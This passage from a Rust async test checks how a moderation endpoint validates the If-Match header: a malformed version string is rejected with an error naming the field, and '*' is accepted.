        Some(shown),
    )
    .await;
    assert_eq!(noted.status, 200, "{}", noted.json);
    // A malformed If-Match names the header; `*` means any version.
    assert_eq!(
        moderate(
            json!({"action": "set_status", "status": "in_progress"}),
            Some("not a version!".into())
        )
        .await
        .json["field"],
        "If-Match"
    );
    let any = moderate(
        json!({"action": "set_status", "status": "in_progress"}),
        Some("*".into()),
    )
    .await;
    assert_eq!(any.status, 200, "{}", any.json);
}
